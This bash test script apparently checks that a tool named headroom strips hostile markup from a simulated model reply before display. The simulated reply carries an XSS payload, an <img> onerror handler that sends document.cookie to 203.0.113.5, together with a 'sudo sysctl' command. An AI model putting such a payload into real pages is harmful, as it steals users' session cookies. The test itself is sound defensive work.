#!/usr/bin/env bash
# Family 2 (markup). The model wraps the template in a ```bash code fence and adds raw HTML (an <img> with
# an onerror beacon to 203.0.113.5), an HTML comment, a "# FITS" heading and `sudo sysctl -w
# vm.drop_caches=3`. None of it is shown more often than without a model; headroom's own answer is shown.
source "$(dirname "$0")/_lib.sh"; setup_env
llm_start A fence --payload '<img src=x onerror="fetch(`http://203.0.113.5/?`+document.cookie)"> <!-- HTMLMARK --> 
# FITS
sudo sysctl -w vm.drop_caches=3'
ST="$(steps turn "$RUN_TXT" turn "$Q_GMU")"
pair_runs A "$ST"
llm_sent A 'HTMLMARK' || fail "control: the server never sent its attack"
[ "$(cnt outL/all.txt HTMLMARK)" = 0 ] || fail "the model's HTML comment reached the screen"
no_more outL/all.txt outN/all.txt 'onerror' '203.0.113.5' '<img' '<!--' '# FITS' 'sysctl' '```bash'
grep -q '121\.69' outL/all.txt || fail "headroom's own answer (121.69) is missing with the model"
pass "posts=$POSTS"
